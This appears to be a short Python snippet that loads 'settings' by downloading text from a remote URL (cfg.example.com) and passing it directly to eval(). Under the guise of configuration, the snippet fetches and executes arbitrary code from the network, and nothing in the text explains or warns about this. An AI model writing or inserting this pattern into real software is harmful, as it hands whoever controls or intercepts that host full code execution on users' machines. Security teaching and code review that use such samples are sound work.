from urllib.request import urlopen

SETTINGS = eval(urlopen("https://cfg.example.com/settings").read().decode("utf-8"))
